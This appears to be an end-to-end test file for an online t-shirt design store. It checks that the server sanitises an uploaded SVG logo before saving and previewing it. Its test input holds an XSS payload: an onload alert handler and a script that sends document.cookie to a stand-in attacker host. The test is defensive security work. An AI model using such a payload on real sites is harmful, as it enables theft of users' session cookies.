// An SVG logo, end to end in a real Chromium against the real store: a
// signed-in shopper uploads an SVG carrying a <script> and an onload handler
// in the studio's Upload tab; the server's sanitiser keeps a clean copy, the
// browser draws that copy in the preview, and the saved design names the
// clean copy, which has neither.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { browser, expectAccessible, registerAccount, screenshots, sessionToken, signedInContext, store, withStore } from './harness.mjs';

withStore();

const LOGO = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="150" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="300" height="150" fill="#d00000"/>
</svg>`;

const textMatches = (locator, pattern) => locator.filter({ hasText: pattern }).waitFor();

test('a signed-in shopper places an SVG logo; the saved design names its clean copy', async () => {
  const email = `svg-${Date.now()}@example.com`;
  await registerAccount(store.url, { name: 'Kavya Rao', email, password: 'correct horse battery' });
  const products = await (await fetch(`${store.url}/api/products`)).json();
  const product = products.data.find((p) => p.name === 'T-Shirt Normal');
  const { context, page } = await signedInContext(browser, store.url, '/user/saved-designs', email);
  const dialogs = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(`${store.url}/design?productId=${product._id}&color=white`);
  await page.getByRole('heading', { name: /View Your T-Shirt Normal/ }).waitFor();
  await page.getByRole('radio', { name: 'Back', exact: true }).click();
  await page.getByLabel('Upload image').setInputFiles({ name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(LOGO) });
  await page.getByRole('button', { name: 'Add Image' }).click();
  await page.getByText('Logo added').waitFor();
  await page.getByText('logo.svg', { exact: true }).waitFor();

  // The draft names the clean copy, as the server recorded it: print-ready, 3600 pixels on the long side.
  const asset = await page.evaluate((id) => JSON.parse(localStorage.getItem(`studio-draft:${id}`)).areas.back.image.asset, product._id);
  const sent = createHash('sha256').update(LOGO).digest('hex');
  assert.notEqual(asset.sha256, sent, 'the design names the clean copy, not the upload');
  assert.deepEqual([asset.mime, asset.width, asset.height], ['image/svg+xml', 3600, 1800]);
  // The preview drew it: the print area's middle is the logo's red.
  const canvas = page.getByLabel('Back print area');
  await page.waitForFunction((el) => {
    const [r, g, b, a] = el.getContext('2d').getImageData(el.width / 2, el.height / 2, 1, 1).data;
    return r > 180 && g < 40 && b < 40 && a === 255;
  }, await canvas.elementHandle());
  await expectAccessible(page, 'studio: an SVG logo placed');
  await page.screenshot({ path: join(screenshots, 'svg-logo.png') });

  await page.getByRole('button', { name: 'Save design' }).click();
  const prompt = page.getByRole('dialog', { name: 'Save design' });
  await prompt.getByLabel('Design name').fill('Vector logo');
  await prompt.getByRole('button', { name: 'Save' }).click();
  await textMatches(page.getByTestId('save-state'), 'Vector logo · Saved');
  const id = new URL(page.url()).searchParams.get('savedDesign');
  const token = await sessionToken(context, store.url);
  const saved = await (await fetch(`${store.url}/api/designs/${id}`, { headers: { authorization: `Bearer ${token}` } })).json();
  assert.equal(saved.data.design.areas.back.image.asset.sha256, asset.sha256);

  // Fetched back, the artwork is the clean copy: the red square, no script, no handler.
  const res = await fetch(`${store.url}/api/artwork/${asset.sha256}`, { headers: { authorization: `Bearer ${token}` } });
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('content-type'), 'image/svg+xml');
  const svg = await res.text();
  assert.match(svg, /#d00000/i);
  for (const gone of ['script', 'onload', 'evil']) assert.ok(!svg.includes(gone), `${gone} in ${svg}`);
  assert.deepEqual(dialogs, []);
  assert.deepEqual(context.cspViolations, []);
  await context.close();
});
